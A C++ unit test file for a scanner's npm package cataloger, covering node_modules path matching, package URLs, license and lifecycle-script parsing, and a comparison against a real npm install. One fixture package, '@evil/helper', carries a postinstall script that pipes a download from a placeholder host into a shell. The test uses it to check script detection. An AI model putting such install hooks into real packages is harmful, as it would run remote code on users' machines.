#include "catalog/npm.h"

#include <gtest/gtest.h>

#include <fstream>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "base/file.h"
#include "base/json.h"
#include "catalog/npm_lock.h"
#include "layer/walker.h"
#include "tests/testing.h"

namespace customs::catalog {
namespace {

using NameVersion = std::pair<std::string, std::string>;

layer::FileInfo Info(std::string path) {
  layer::FileInfo info;
  info.path = std::move(path);
  info.size = 100;
  return info;
}

TEST(NpmPathTest, AcceptsOnlyPackageDirectoriesInNodeModules) {
  EXPECT_TRUE(IsNodeModulesPackageJson("node_modules/lodash/package.json"));
  EXPECT_TRUE(IsNodeModulesPackageJson("usr/src/app/node_modules/lodash/package.json"));
  EXPECT_TRUE(IsNodeModulesPackageJson("app/node_modules/@babel/core/package.json"));
  EXPECT_TRUE(IsNodeModulesPackageJson("app/node_modules/send/node_modules/ms/package.json"));
  EXPECT_TRUE(
      IsNodeModulesPackageJson("app/node_modules/.pnpm/ms@2.1.3/node_modules/ms/package.json"));
  EXPECT_TRUE(IsNodeModulesPackageJson(
      "usr/lib/node_modules/npm/node_modules/@npmcli/arborist/package.json"));

  EXPECT_FALSE(IsNodeModulesPackageJson("package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("app/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/lodash/lib/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/@babel/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/@babel/core/lib/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/.bin/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/lodash/package.json.bak"));
  EXPECT_FALSE(IsNodeModulesPackageJson("my_node_modules/lodash/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/@/x/package.json"));
  EXPECT_FALSE(IsNodeModulesPackageJson("node_modules/x/package-lock.json"));

  NpmPackageCataloger cataloger;
  EXPECT_TRUE(cataloger.Wants(Info("app/node_modules/ms/package.json")));
  EXPECT_FALSE(cataloger.Wants(Info("app/package.json")));
  layer::FileInfo link = Info("app/node_modules/ms/package.json");
  link.type = layer::FileType::kSymlink;
  EXPECT_FALSE(cataloger.Wants(link));
}

TEST(NpmPurlTest, EncodesScope) {
  EXPECT_EQ(NpmPurl("@babel/core", "7.1.0"), "pkg:npm/%40babel/core@7.1.0");
  EXPECT_EQ(NpmPurl("lodash", "4.17.20"), "pkg:npm/lodash@4.17.20");
  EXPECT_EQ(NpmPurl("x", "1.0.0-beta+build.1"), "pkg:npm/x@1.0.0-beta%2Bbuild.1");
}

TEST(NpmPackageJsonTest, ReadsNameVersionLicenseAndLifecycleScripts) {
  constexpr std::string_view kJson = R"({
    "name": "@evil/helper", "version": "1.0.3", "license": "MIT",
    "scripts": {"test": "jest", "preinstall": "node pre.js",
                "postinstall": "curl -s http://x.invalid/p | sh", "prepare": "tsc",
                "install": 42}
  })";
  auto r = ParseNpmPackageJson(kJson, "app/node_modules/@evil/helper/package.json");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  ASSERT_TRUE(r->has_value());
  const model::Package& p = **r;
  EXPECT_EQ(p.type, "npm");
  EXPECT_EQ(p.name, "@evil/helper");
  EXPECT_EQ(p.version, "1.0.3");
  EXPECT_EQ(p.purl, "pkg:npm/%40evil/helper@1.0.3");
  EXPECT_EQ(p.db_path, "app/node_modules/@evil/helper/package.json");
  EXPECT_EQ(p.licenses, std::vector<std::string>{"MIT"});
  EXPECT_EQ(p.scope, "");
  // "test" is not a lifecycle script; "install" is not a string.
  std::map<std::string, std::string> want = {{"preinstall", "node pre.js"},
                                             {"postinstall", "curl -s http://x.invalid/p | sh"},
                                             {"prepare", "tsc"}};
  EXPECT_EQ(p.scripts, want);
  EXPECT_TRUE(p.source_name.empty());
  EXPECT_TRUE(p.files.empty());
}

TEST(NpmPackageJsonTest, ReadsLegacyLicenseForms) {
  auto object = ParseNpmPackageJson(
      R"({"name":"a","version":"1.0.0","license":{"type":"ISC","url":"u"}})", "p");
  ASSERT_TRUE(object.ok() && object->has_value());
  EXPECT_EQ((*object)->licenses, std::vector<std::string>{"ISC"});

  auto array = ParseNpmPackageJson(
      R"({"name":"b","version":"2.0.0",
          "licenses":[{"type":"MIT","url":"u"},{"type":"Apache-2.0"},"BSD-3-Clause",{"type":"MIT"}]})",
      "p");
  ASSERT_TRUE(array.ok() && array->has_value());
  std::vector<std::string> want = {"MIT", "Apache-2.0", "BSD-3-Clause"};
  EXPECT_EQ((*array)->licenses, want);

  auto expression = ParseNpmPackageJson(
      R"j({"name":"c","version":"3.0.0","license":"(MIT OR Apache-2.0)"})j", "p");
  ASSERT_TRUE(expression.ok() && expression->has_value());
  EXPECT_EQ((*expression)->licenses, std::vector<std::string>{"(MIT OR Apache-2.0)"});
}

TEST(NpmPackageJsonTest, DocumentsWithoutNameOrVersionAreNotPackages) {
  for (std::string_view json :
       {R"({"version":"1.0.0"})", R"({"name":"a"})", R"({"name":"","version":"1"})",
        R"({"name":"a","version":1})", R"({"name":"a b","version":"1.0.0"})", R"({})"}) {
    auto r = ParseNpmPackageJson(json, "p");
    ASSERT_TRUE(r.ok()) << json;
    EXPECT_FALSE(r->has_value()) << json;
  }
}

TEST(NpmPackageJsonTest, MalformedJsonIsAnErrorWithOffset) {
  auto r = ParseNpmPackageJson(R"({"name": "a", "version": )", "x/node_modules/a/package.json");
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(r.status().message().find("x/node_modules/a/package.json"), std::string::npos);
  EXPECT_NE(r.status().message().find("byte"), std::string::npos);

  auto array = ParseNpmPackageJson("[1,2]", "p");
  EXPECT_FALSE(array.ok());

  std::string deep(10000, '[');
  auto nested = ParseNpmPackageJson(deep, "p");
  ASSERT_FALSE(nested.ok());
  EXPECT_EQ(nested.status().code(), StatusCode::kResourceExhausted);
}

TEST(NpmPackageJsonTest, AnalyzerTurnsBadFilesIntoWarnings) {
  NpmPackageCataloger cataloger;
  layer::FileInfo info = Info("app/node_modules/broken/package.json");
  std::string text = "{not json";
  layer::File file{info, {reinterpret_cast<const uint8_t*>(text.data()), text.size()}};
  layer::Findings out;
  EXPECT_TRUE(cataloger.Analyze(file, out).ok());
  EXPECT_TRUE(out.packages.empty());
  ASSERT_EQ(out.diagnostics.size(), 1u);
  EXPECT_EQ(out.diagnostics[0].severity, model::DiagnosticSeverity::kWarning);
  EXPECT_EQ(out.diagnostics[0].path, "app/node_modules/broken/package.json");
}

// ---- a real node_modules tree, installed by npm --------------------------

void WriteFile(const std::string& path, const std::string& text) {
  std::ofstream(path, std::ios::binary) << text;
}

// Every name@version of `npm ls --all --json` below the root.
void CollectNpmLs(const Json& node, std::set<NameVersion>& out) {
  const Json* deps = JsonObject(node, "dependencies");
  if (deps == nullptr) return;
  for (const auto& [name, dep] : deps->items()) {
    std::string version = JsonString(dep, "version");
    if (!version.empty()) out.insert({name, version});
    CollectNpmLs(dep, out);
  }
}

// Installs a few packages with npm into a temporary directory (skipped when
// npm or the registry is not there) and checks that walking the directory
// finds exactly the packages npm itself lists, each once, from its own
// package.json; decoy package.json files are ignored.
class NpmInstalledTreeTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::customs::testing::Run("command -v npm") != 0) {
      skip_reason_ = "npm is not installed";
      return;
    }
    dir_ = ::customs::testing::TempDir();
    std::string out;
    int rc = ::customs::testing::Run(
        "cd " + dir_ +
            " && timeout 300 npm install --ignore-scripts --no-audit --no-fund --prefer-offline"
            " --loglevel=error lodash@4.17.20 minimist@1.2.5 express@4.17.1"
            " @babel/code-frame@7.10.4",
        &out);
    if (rc != 0) {
      skip_reason_ = "npm install failed (registry not reachable?): " + out.substr(0, 500);
      return;
    }
    // npm writes warnings to stderr, which Run mixes into its output (and
    // into any redirection outside the subshell): the JSON goes to a file.
    std::string ls_path = ::customs::testing::TempDir() + "/ls.json";
    rc = ::customs::testing::Run(
        "(cd " + dir_ + " && npm ls --all --json > " + ls_path + " 2>/dev/null)", &out);
    std::string ls;
    if (auto r = ReadFile(ls_path, 16u << 20); r.ok()) ls = *r;
    auto doc = ParseJson(ls, "npm ls");
    if (rc != 0 || !doc.ok()) {
      skip_reason_ = "npm ls failed: " + ls.substr(0, 500);
      return;
    }
    CollectNpmLs(*doc, npm_ls_);
    // Decoys: package.json files that are not packages.
    WriteFile(dir_ + "/node_modules/lodash/fp/package.json",
              R"({"name":"decoy-fp","version":"9.9.9"})");
    ::customs::testing::Run("mkdir -p " + dir_ + "/node_modules/@babel/code-frame/lib");
    WriteFile(dir_ + "/node_modules/@babel/code-frame/lib/package.json",
              R"({"name":"decoy-lib","version":"9.9.9"})");
  }

  void SetUp() override {
    if (!skip_reason_.empty()) GTEST_SKIP() << skip_reason_;
  }

  static Result<layer::LayerResult> Walk(const layer::Analyzer& analyzer) {
    CUSTOMS_ASSIGN_OR_RETURN(auto reader, layer::DirectoryEntryReader::Open(dir_, Limits{}));
    return layer::WalkLayer(*reader, {&analyzer}, "sha256:test");
  }

  static inline std::string dir_;
  static inline std::string skip_reason_;
  static inline std::set<NameVersion> npm_ls_;
};

TEST_F(NpmInstalledTreeTest, FindsExactlyThePackagesNpmLists) {
  // express 4.17.1 and friends: 64 packages when this was written; npm ls
  // is the reference, the floor only guards against an empty listing.
  ASSERT_GE(npm_ls_.size(), 50u);
  ASSERT_TRUE(npm_ls_.count({"express", "4.17.1"}));
  ASSERT_TRUE(npm_ls_.count({"lodash", "4.17.20"}));

  NpmPackageCataloger cataloger;
  auto walked = Walk(cataloger);
  ASSERT_TRUE(walked.ok()) << walked.status().ToString();
  EXPECT_TRUE(walked->findings.diagnostics.empty());
  std::set<NameVersion> found;
  for (const auto& p : walked->findings.packages) {
    EXPECT_TRUE(found.insert({p.name, p.version}).second) << p.name << "@" << p.version;
    EXPECT_EQ(p.type, "npm");
    EXPECT_EQ(p.purl, NpmPurl(p.name, p.version));
    EXPECT_TRUE(p.db_path.ends_with("/package.json")) << p.db_path;
  }
  EXPECT_EQ(found, npm_ls_);

  auto find = [&](std::string_view db_path) -> const model::Package* {
    for (const auto& p : walked->findings.packages)
      if (p.db_path == db_path) return &p;
    return nullptr;
  };
  const model::Package* express = find("node_modules/express/package.json");
  ASSERT_NE(express, nullptr);
  EXPECT_EQ(express->version, "4.17.1");
  EXPECT_EQ(express->licenses, std::vector<std::string>{"MIT"});
  const model::Package* frame = find("node_modules/@babel/code-frame/package.json");
  ASSERT_NE(frame, nullptr);
  EXPECT_EQ(frame->purl, "pkg:npm/%40babel/code-frame@7.10.4");
  // send 0.17.1 needs ms 2.1.1 while the hoisted ms is 2.0.0.
  const model::Package* nested_ms = find("node_modules/send/node_modules/ms/package.json");
  ASSERT_NE(nested_ms, nullptr);
  EXPECT_EQ(nested_ms->name, "ms");
  EXPECT_EQ(nested_ms->version, "2.1.1");
}

TEST_F(NpmInstalledTreeTest, LockfileNpmWroteListsTheSamePackages) {
  NpmLockCataloger cataloger;
  auto walked = Walk(cataloger);
  ASSERT_TRUE(walked.ok()) << walked.status().ToString();
  EXPECT_TRUE(walked->findings.diagnostics.empty());
  std::set<NameVersion> found;
  for (const auto& p : walked->findings.packages) {
    // Only the top-level package-lock.json; node_modules/.package-lock.json
    // is npm's own cache and not wanted.
    EXPECT_EQ(p.db_path, "package-lock.json");
    EXPECT_EQ(p.scope, "prod") << p.name;
    found.insert({p.name, p.version});
  }
  EXPECT_EQ(found, npm_ls_);
}

}  // namespace
}  // namespace customs::catalog
